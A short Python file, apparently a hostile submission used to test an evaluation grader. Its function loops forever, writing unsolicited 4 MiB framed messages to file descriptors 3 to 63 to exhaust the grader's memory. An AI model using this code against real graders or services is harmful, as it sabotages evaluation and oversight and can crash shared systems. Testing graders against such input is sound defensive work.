"""Sends answers without a request, again and again, to fill the grader's memory."""

import json
import os
import struct

text = json.dumps({"value": {"array": 0}, "arrays": [{"dtype": "uint8", "shape": [1 << 22]}]}).encode()
frame = struct.pack("<4sIQ", b"MEDL", len(text), 1 << 22) + text + bytes(1 << 22)


def centre(x):
    while True:
        for descriptor in range(3, 64):
            try:
                rest = memoryview(frame)
                while rest:
                    rest = rest[os.write(descriptor, rest) :]
            except OSError:
                pass
